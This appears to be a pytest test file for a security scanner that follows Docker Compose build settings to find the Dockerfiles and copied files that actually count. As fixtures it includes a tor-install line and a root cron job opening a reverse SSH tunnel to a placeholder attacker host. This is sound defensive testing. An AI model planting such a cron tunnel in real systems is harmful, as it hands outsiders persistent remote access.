"""The builds that Compose files ask for: which Dockerfile, in which folder, with what, and where findings in an inline one stand."""

from pathlib import Path

import pytest

from scanner.checking import check
from scanner.model import LaunchLocation, Level, Report
from tests.checking.repository import said, written

TOR = "RUN apt-get install -y tor\n"
JOB = "* * * * * root ssh -N " + "-" + "R 22:localhost:22 a@evil.example\n"
CLOSED = "    network_mode: none\n"


def project(build: str, more: str = "") -> str:
    return f"services:\n  app:\n{CLOSED}    build:{build}\n{more}"


def checked(root: Path, files: dict[str, str]) -> Report:
    return check([written(root, {".git/HEAD": "", **files})])


@pytest.mark.parametrize(
    ("build", "dockerfile"),
    [
        ("\n      context: .\n      dockerfile: agent.txt", "agent.txt"),
        ("\n      context: ./images\n      dockerfile: agent.txt", "images/agent.txt"),
        ("\n      context: images\n      dockerfile: ../agent.build", "agent.build"),
        ("\n      dockerfile: ${WHICH:-agent}.txt", "agent.txt"),
        (" {context: ., dockerfile: agent.md}", "agent.md"),
    ],
)
def test_a_file_is_a_dockerfile_under_whatever_name(tmp_path: Path, build: str, dockerfile: str) -> None:
    text = "FROM a\n" + TOR
    report = checked(tmp_path, {"compose.yaml": project(build), dockerfile: text, "other.txt": text, "images/x": ""})
    assert said(report) == {("build/tunnel-tool", dockerfile, 2, "high")}
    assert report.complete, report.notifications


def test_the_context_is_the_one_that_is_named(tmp_path: Path) -> None:
    """The Dockerfile's own folder has all that it copies, too."""
    files = {
        "docker/Dockerfile": "FROM a\nCOPY job /etc/cron.d/\n",
        "docker/job": JOB,
        "app/job": JOB,
        "compose.yaml": project("\n      context: app\n      dockerfile: ../docker/Dockerfile"),
    }
    assert {(file, severity) for _, file, _, severity in said(checked(tmp_path, files))} == {("app/job", "critical")}


def test_what_a_build_is_given_counts(tmp_path: Path) -> None:
    files = {
        "compose.yaml": project(
            "\n      context: .\n      args:\n        TOOL: tor\n        EMPTY:\n        UNKNOWN: ${NOBODY}"
        ),
        "Dockerfile": "FROM a\nARG TOOL=jq\nRUN apt-get install -y $TOOL\n",
    }
    assert said(checked(tmp_path, files)) == {("build/tunnel-tool", "Dockerfile", 3, "high")}


def test_the_stage_that_is_asked_for_is_the_one_that_counts(tmp_path: Path) -> None:
    text = f"FROM a AS dev\n{TOR}FROM a AS end\nRUN true\n"
    files = {"compose.yaml": project("\n      context: .\n      target: dev"), "Dockerfile": text}
    assert said(checked(tmp_path / "one", files)) == {("build/tunnel-tool", "Dockerfile", 2, "high")}
    files = {"compose.yaml": project(" ."), "Dockerfile": text}
    assert said(checked(tmp_path / "two", files)) == {("build/tunnel-tool", "Dockerfile", 2, "medium")}


@pytest.mark.parametrize(
    ("inline", "line"),
    [
        (
            " |\n        # syntax=docker/dockerfile:1\n        FROM a\n        RUN true && \\\n          apt-get install -y tor\n",
            8,
        ),
        (" |-\n\n        FROM a\n        RUN apt-get install -y $${TOOL:-tor}\n", 7),
        (' "FROM a\\nRUN true\\nRUN apt-get install -y tor\\n"\n', 4),
        (
            " |\n        FROM a\n        COPY <<EOF /x\n        text\n        EOF\n        RUN apt-get install -y tor\n",
            9,
        ),
    ],
    ids=["literal", "a line before", "quoted", "heredoc"],
)
def test_an_inline_dockerfile_is_judged_on_its_lines(tmp_path: Path, inline: str, line: int) -> None:
    text = f"services:\n  app:\n    build:\n      dockerfile_inline:{inline}{CLOSED}"
    report = checked(tmp_path, {"sub/compose.yaml": text})
    found = [f for f in report.findings if f.rule_id == "build/tunnel-tool"]
    assert [f.locations[0] for f in found] == [LaunchLocation("sub/compose.yaml", line)]
    assert [(f.source.file, f.source.line) for f in found if f.source] == [("sub/compose.yaml", line)]
    assert {(e.path, e.line) for f in found for e in f.evidence} == {(b"sub/compose.yaml", line)}
    assert report.complete, report.notifications


def test_files_lie_where_an_inline_dockerfile_copies_them(tmp_path: Path) -> None:
    text = f"services:\n  app:\n    build:\n      context: app\n      dockerfile_inline: |\n        FROM a\n        COPY . /etc/cron.d/\n{CLOSED}"
    files = {"compose.yaml": text, "app/job": JOB, "job": JOB}
    assert {(file, severity) for _, file, _, severity in said(checked(tmp_path, files))} == {("app/job", "critical")}


def test_a_build_is_put_together_from_all_files_of_a_project(tmp_path: Path) -> None:
    files = {
        "compose.yaml": f"services:\n  app:\n{CLOSED}    extends: {{file: base/x.yaml, service: base}}\n",
        "base/x.yaml": "services:\n  base:\n    build: {context: ., dockerfile: b.txt}\n",
        "compose.override.yaml": "services:\n  app:\n    build: {target: dev}\n",
        "base/b.txt": f"FROM a AS dev\n{TOR}FROM a\n",
    }
    report = checked(tmp_path, files)
    assert ("build/tunnel-tool", "base/b.txt", 2, "high") in said(report)


@pytest.mark.parametrize(
    "build",
    [
        " https://github.com/acme/app.git#main",
        " git@github.com:acme/app.git",
        " ../elsewhere",
        " /srv/app",
        " ${NOBODY}",
        "\n      context: .\n      dockerfile: none.txt",
        "\n      context: .\n      target: none",
        "\n      context: .\n      additional_contexts: {lib: ../lib}",
    ],
)
def test_what_is_not_in_the_repository_is_told_and_not_followed(tmp_path: Path, build: str) -> None:
    written(tmp_path, {"elsewhere/Dockerfile": "FROM a\n" + TOR})
    report = checked(tmp_path / "r", {"compose.yaml": project(build), "Dockerfile": "FROM a\nRUN true\n"})
    assert said(report) == set()
    assert [(n.path, n.level) for n in report.notifications] == [(b"compose.yaml", Level.NOTE)], report.notifications
    assert report.notifications[0].message.startswith("line ")


def test_a_build_that_cannot_be_read_is_told_as_such(tmp_path: Path) -> None:
    text = f"services:\n  app:\n{CLOSED}    build:\n      dockerfile_inline: nothing\n"
    report = checked(tmp_path, {"compose.yaml": text})
    assert not report.complete
    assert {n.path for n in report.notifications} == {b"compose.yaml"}


def test_no_number_of_services_makes_the_look_endless(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scanner.checking.composed.BUILDS", 3)
    services = "".join(f"  s{n}:\n{CLOSED}    build: {{context: ., args: {{A: {n}}}}}\n" for n in range(6))
    report = checked(tmp_path, {"compose.yaml": f"services:\n{services}", "Dockerfile": "FROM a\nARG A\nRUN echo $A\n"})
    assert not report.complete
    assert report.statistics["builds"] == 4


def test_no_text_is_read_again_and_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scanner.checking.composed.TEXT", 1000)
    same = f"x-b: &b\n  dockerfile_inline: |\n    FROM a\n    RUN echo {'x' * 400}\nservices:\n"
    inline = same + "".join(f"  s{n}:\n{CLOSED}    build: *b\n" for n in range(6))
    asked = "services:\n" + "".join(f"  s{n}:\n{CLOSED}    build: {{context: ., args: {{A: {n}}}}}\n" for n in range(6))
    for name, text, builds in (("inline", inline, 4), ("asked", asked, 3)):
        build = f"FROM a\nARG A\nRUN echo {'x' * 400}$A\n"
        report = checked(tmp_path / name, {"compose.yaml": text, "Dockerfile": build})
        assert not report.complete
        assert report.statistics["builds"] == builds
